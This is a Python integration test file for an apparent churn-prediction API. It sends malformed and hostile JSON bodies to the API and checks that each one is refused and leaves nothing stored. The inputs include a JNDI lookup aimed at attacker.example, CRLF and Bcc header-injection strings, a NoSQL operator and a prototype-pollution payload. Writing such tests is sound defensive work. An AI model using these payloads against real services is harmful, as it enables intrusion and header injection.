"""Bodies that parsers trip over: refused by field, never a fault of ours, and nothing is stored of them."""

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from retainstream.accounts.passwords import hashed
from retainstream.customers import records
from retainstream.engine.schema import default_schema
from retainstream.roles import Role
from retainstream.settings import settings
from retainstream.storage.clients import dynamodb
from retainstream.storage.customers import Customers
from retainstream.storage.predictions import Predictions
from retainstream.storage.users import User, Users
from tests.integration.conftest import Answer, load_function
from tests.small_models import put_in_service, some_features
from tests.stored import stored_items

Call = Callable[..., Answer]
HASH = hashed("four unrelated words here")
ROW = some_features(1)[0]
MARK = "\ue000"
BODIES: dict[str, tuple[str, str, str, Any]] = {
    "predict": ("dashboard", "POST", "/api/dashboard/predict", {"sample_size": 3}),
    "put": ("customers", "PUT", "/api/customers/c1", {"features": ROW}),
    "outcome": ("customers", "POST", "/api/customers/c1/outcome", {"churned": True}),
    "segment": (
        "customers",
        "POST",
        "/api/customers/segment",
        {"criteria": [{"column": "payment_failures", "op": "ge", "value": 1}], "levels": ["high"], "limit": 3},
    ),
    "import": ("customers", "POST", "/api/customers/imports", {"file_name": "a.csv", "size": 10, "gzip": False}),
    "rows": ("predictions", "POST", "/api/predictions/generate", {"rows": [ROW]}),
    "ids": ("predictions", "POST", "/api/predictions/generate", {"customer_ids": ["c1"]}),
    "what-if": ("predictions", "POST", "/api/predictions/what-if", {"features": ROW, "changes": {"device_count": 2}}),
    "login": ("auth", "POST", "/api/auth/login", {"email": "ann@example.com", "password": "four unrelated words here"}),
    "register": ("auth", "POST", "/api/auth/register", {"email": "new@example.com", "password": "four unrelated words here"}),
    "user": ("auth", "PATCH", "/api/auth/users", {"email": "ann@example.com", "role": "viewer"}),
}
VALUES = {
    "a huge whole number": "9" * 4000,
    "a whole number too long to read": "9" * 5000,
    "a huge negative one": "-" + "9" * 4000,
    "beyond a double": "1e999",
    "beyond a double, negative": "-1e999",
    "next to nothing": "1e-400",
    "minus zero": "-0",
    "a long fraction": "0." + "1" * 5_000,
    "true": "true",
    "null": "null",
    "a list": "[1]",
    "an object": '{"$gt": 0}',
    "an object of DynamoDB": '{"N": "1"}',
    "text": '"1"',
    "text with a NUL": '"a\\u0000b"',
    "half a character": '"\\ud800"',
    "a text that is no character": '"\\uffff\\ufffe"',
    "right to left": '"\\u202egnp.exe"',
    "a line end and a header": '"a\\r\\nSet-Cookie: x=1"',
    "a formula": '"=1+1"',
    "a template": '"${jndi:ldap://attacker.example} {{7*7}} %s %n"',
    "a prototype": '{"__proto__": {"role": "admin"}}',
    "long": json.dumps("x" * 100_000),
}


def marked(part: Any) -> Iterator[Any]:
    """What was given, with each value in it in turn replaced by a mark."""
    yield MARK
    if isinstance(part, dict):
        for name, inner in part.items():
            yield from ({**part, name: found} for found in marked(inner))
    elif isinstance(part, list):
        for place, inner in enumerate(part):
            yield from ([*part[:place], found, *part[place + 1 :]] for found in marked(inner))


def spoiled(value: dict[str, Any], literal: str) -> list[str]:
    """The body as text, with each of its values in turn replaced by the literal, and once with a field more."""
    return [json.dumps(found).replace(json.dumps(MARK), literal) for found in (*marked(value), {**value, "unheard-of": MARK})]


@pytest.fixture
def base(aws: None) -> None:
    load_function.cache_clear()
    put_in_service()
    records.put("c1", ROW, default_schema(), Customers(), Predictions())
    for name, role in (("root", Role.ADMIN), ("ann", Role.VIEWER)):
        Users().add(User(f"{name}@example.com", name, role, HASH, "2026-01-01T00:00:00+00:00"))


def items() -> int:
    names = [name for name in dynamodb().list_tables()["TableNames"] if name != settings().rate_limits_table]
    return sum(len(stored_items(name)) for name in names)


@pytest.mark.parametrize("name", BODIES)
def test_the_bodies_are_good_before_they_are_spoiled(base: None, call: Call, name: str) -> None:
    module, method, path, body = BODIES[name]
    answer = call(module, method, path, body, user="root@example.com")
    assert 200 <= answer.status < 300, answer.body


@pytest.mark.parametrize("name", BODIES)
def test_a_value_that_is_none_is_refused(base: None, call: Call, name: str) -> None:
    module, method, path, body = BODIES[name]
    for what, literal in VALUES.items():
        before = items()
        for text in spoiled(body, literal):
            answer = call(module, method, path, raw=text, user="root@example.com")
            assert answer.status < 500 or answer.body["type"].endswith(("unavailable", "no-model")), (what, text[:200], answer.body)
            before = items() if answer.status < 400 else before
            assert "attacker.example" not in str(answer.headers)
            assert "\n" not in "".join(str(value) for value in answer.headers.values())
        assert items() == before, what


@pytest.mark.parametrize("name", BODIES)
def test_a_name_given_twice_is_refused(base: None, call: Call, name: str) -> None:
    module, method, path, body = BODIES[name]
    first, value = next(iter(body.items()))
    for text in (
        json.dumps(body)[:-1] + f', "{first}": {json.dumps(value)}}}',
        f'{{"{first}": null, ' + json.dumps(body)[1:],
        f'{{"\\u{ord(first[0]):04x}{first[1:]}": 1, ' + json.dumps(body)[1:],
    ):
        answer = call(module, method, path, raw=text, user="root@example.com")
        assert (answer.status, answer.body["type"].rpartition(":")[2]) == (400, "malformed-request")


@pytest.mark.parametrize(
    "address",
    [
        "ann@example.com\\nBcc: eve@example.com",
        "ann@example.com\\r\\nSubject: x",
        "ann@example.com%0aBcc:eve@example.com",
        "ann@example.com,eve@example.com",
        "ann@example.com;eve@example.com",
        "Ann <ann@example.com>",
        '\\"ann bob\\"@example.com',
        "ann@[192.0.2.1]",
        "ann@localhost",
        "ann@@example.com",
        "ann\\u0000@example.com",
        "ann@ex\\u00e4mple.com",
        "ann@example.com.",
        "<script>@example.com",
        "ann@exam\\u2024ple.com@example.org",
    ],
)
def test_no_header_is_smuggled_in_an_address(call: Call, address: str) -> None:
    text = f'{{"email": "{address}", "password": "four unrelated words here"}}'
    for path in ("register", "login"):
        answer = call("auth", "POST", f"/api/auth/{path}", raw=text, role=None)
        assert answer.status == 422
        assert [error["field"] for error in answer.body["errors"]] == ["body.email"]
        assert "eve@" not in str(answer.body)
